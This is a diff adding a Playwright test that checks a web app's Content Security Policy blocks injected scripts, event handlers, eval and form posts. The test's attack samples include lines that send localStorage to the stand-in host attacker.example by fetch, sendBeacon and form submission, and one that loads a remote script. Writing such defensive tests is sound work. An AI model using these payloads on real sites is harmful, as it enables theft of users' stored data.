@@ -1,0 +1,109 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from '../fixtures/test';
+
+/** The directives that stop what `attack` tries within the page. */
+async function listViolations(page: Page, attack: () => void): Promise<string[]> {
+  await page.evaluate(() => {
+    const seen: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      seen.push(effectiveDirective),
+    );
+    (window as unknown as { violations: string[] }).violations = seen;
+  });
+  await page.evaluate(attack);
+  const read = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+  await expect.poll(async () => (await read()).length).toBeGreaterThan(0);
+  return read();
+}
+
+/** Each writes a mark that stays away as long as the policy holds. */
+const attacks: readonly { what: string; directive: string; attack: () => void }[] = [
+  {
+    what: 'a script element with text of its own',
+    directive: 'script-src-elem',
+    attack: () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.stolen = { ...localStorage }';
+      document.body.append(script);
+    },
+  },
+  {
+    what: 'an event handler in markup',
+    directive: 'script-src-attr',
+    attack: () => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">');
+    },
+  },
+  {
+    what: 'a script of another origin',
+    directive: 'script-src-elem',
+    attack: () => {
+      const script = document.createElement('script');
+      script.src = 'https://attacker.example/steal.js';
+      document.body.append(script);
+    },
+  },
+  {
+    what: 'text that is evaluated',
+    directive: 'script-src',
+    attack: () => {
+      try {
+        (window as unknown as { stolen: unknown }).stolen = new Function('return { ...localStorage }')();
+      } catch {
+        // Refused: the violation is what counts.
+      }
+    },
+  },
+  {
+    what: 'a call to another origin',
+    directive: 'connect-src',
+    attack: () => {
+      void fetch('https://attacker.example/', { method: 'POST', body: JSON.stringify(localStorage) }).catch(
+        () => undefined,
+      );
+    },
+  },
+  {
+    what: 'a beacon to another origin',
+    directive: 'connect-src',
+    attack: () => {
+      navigator.sendBeacon('https://attacker.example/', JSON.stringify(localStorage));
+    },
+  },
+  {
+    what: 'a form that is sent',
+    directive: 'form-action',
+    attack: () => {
+      const form = document.createElement('form');
+      form.action = 'https://attacker.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  },
+];
+
+test('what stays in local storage is guarded: no foreign script runs, and nothing is sent elsewhere', async ({
+  page,
+  supplier,
+  consoleErrors,
+}) => {
+  // The browser reports each refusal to the console.
+  consoleErrors.allow(/Content Security Policy|Fetch API cannot load|Refused to/);
+  expect(supplier.userId).not.toBe('');
+  const sent: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('attacker.example')) sent.push(request.url());
+  });
+  page.on('requestfailed', (request) => {
+    // Chromium shows a refused request as one that failed before it left.
+    if (request.failure()?.errorText === 'csp') sent.splice(sent.indexOf(request.url()), 1);
+  });
+  await page.goto('/listings');
+  await expect(page.getByRole('heading', { level: 1, name: 'My Listings' })).toBeVisible();
+  for (const { what, directive, attack } of attacks)
+    await test.step(what, async () => {
+      expect(await listViolations(page, attack)).toContain(directive);
+    });
+  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
+  expect(sent).toEqual([]);
+});
